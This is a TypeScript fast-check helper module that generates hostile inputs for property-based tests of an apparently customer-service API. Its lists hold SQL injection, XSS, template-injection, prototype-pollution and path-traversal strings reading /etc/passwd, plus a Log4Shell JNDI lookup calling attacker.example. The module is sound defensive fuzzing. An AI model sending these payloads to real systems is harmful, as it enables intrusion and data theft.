import fc from 'fast-check';

/**
 * Generators of hostile input for property-based tests: strings, keys, JSON trees, raw bodies.
 * Nothing here names a path of this machine, `node_modules` or an error class, so a response that
 * contains such a thing leaked it rather than echoed it.
 */

/** Strings that have broken parsers, templates, queries and key schemes elsewhere. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t\n\r',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '0',
  '-1',
  '1e309',
  '9007199254740993',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "' OR '1'='1",
  "'; DROP TABLE kefu; --",
  '" OR ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  '\u0000',
  '\u0000\u0001\u0002\u001b[31m',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil\u202c',
  '\u200b\u200c\u200d\ufeff',
  'Ω≈ç√∫˜µ≤≥÷',
  '𠜎𠜱𠝹𠱓',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ﷺ',
  'CUSTOMER#01KZ0000000000000000000001',
  'PROFILE',
  'pk',
  'attribute_not_exists(pk)',
  ':expected',
  '#',
  '$',
  '*',
  '?',
  'ZZZZZZZZZZZZZZZZZZZZZZZZZZ',
  '7ZZZZZZZZZZZZZZZZZZZZZZZZZ',
  '00000000000000000000000000',
  '01kz0000000000000000000001',
  '01KZ000000000000000000000I',
  '01KZ0000000000000000000001 ',
  'mailto:a@example.com',
  'a@b',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '2026-02-30T25:61:61Z',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
];

/** Keys that pollute prototypes, name server-owned fields or the table's own attributes. */
export const HOSTILE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '',
  ' ',
  'id',
  'status',
  'version',
  'createdAt',
  'updatedAt',
  'department',
  'role',
  'scope',
  'pk',
  'sk',
  'entityType',
  'gsi1pk',
  'ttl',
  '$where',
  'a.b',
  'a/b',
  '~0',
];

/** Control and formatting characters, quotes and markup, in any mix. */
const nastyCharacter = fc.constantFrom(
  '\u0000',
  '\u0007',
  '\b',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u200b',
  '\ufeff',
  '\ud800',
  '\udfff',
  '\n',
  '\r',
  '\t',
  '"',
  "'",
  '\\',
  '/',
  '<',
  '>',
  '&',
  '%',
  '#',
  '{',
  '}',
  '客',
  '服',
  'é',
);

/** Hostile text: any code points (lone surrogates included), nasty characters, known payloads, huge. */
export const hostileString = (maxHuge = 20_000): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 2, arbitrary: fc.string({ unit: nastyCharacter, maxLength: 30 }) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.integer({ min: Math.min(300, maxHuge), max: maxHuge }),
          fc.constantFrom('x', '客', '\u0000', '😀'),
        )
        .map(([length, unit]) => unit.repeat(length)),
    },
  );

export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_KEYS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

/** A JSON number or any other scalar a schema might not expect. */
export const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
  hostileString(2_000),
  fc.constantFrom(
    0,
    -0,
    -1,
    1.5,
    1e308,
    -1e308,
    5e-324,
    Number.MAX_SAFE_INTEGER + 2,
    true,
    false,
    null,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/**
 * An object whose keys may be `__proto__` and friends as own properties (as JSON.parse makes
 * them), so that JSON.stringify writes them out.
 */
export const objectOf = (entries: [string, unknown][]): Record<string, unknown> => {
  const object: Record<string, unknown> = {};
  for (const [key, value] of entries)
    Object.defineProperty(object, key, {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  return object;
};

/** JSON trees of hostile scalars under hostile keys, a few levels deep. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    hostileScalar,
    fc.array(tie('value'), { maxLength: 5 }),
    fc
      .array(fc.tuple(hostileKey, tie('value')), { maxLength: 5 })
      .map((entries) => objectOf(entries)),
  ),
})).value;

/** Nesting far deeper than any record of ours: arrays or objects, 100 to 20,000 levels. */
export const deeplyNested: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean())
  .map(([depth, arrays]) =>
    arrays
      ? `${'['.repeat(depth)}${']'.repeat(depth)}`
      : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
  );

/** Text that is not JSON at all, or is JSON broken in the ways hand-written JSON breaks. */
export const malformedJson = (valid: string): fc.Arbitrary<string> =>
  fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.integer({ min: 1, max: Math.max(1, valid.length - 1) }).map((end) => valid.slice(0, end)),
    fc.constantFrom(
      `${valid}}`,
      `${valid},`,
      `\ufeff${valid}`,
      valid.replaceAll('"', "'"),
      `/* comment */${valid}`,
      `${valid.slice(0, -1)},}`,
      '{"a": NaN}',
      '{"a": Infinity}',
      '{"a": undefined}',
      '{a: 1}',
      '{"a": 01}',
      '{"a": "\u0000"}',
      '{"a": "\\ud800"',
      '{"__proto__": ',
    ),
  );

/** Whether `text` parses as a JSON object. */
export const parsesAsObject = (text: string): boolean => {
  try {
    const value: unknown = JSON.parse(text);
    return typeof value === 'object' && value !== null && !Array.isArray(value);
  } catch {
    return false;
  }
};
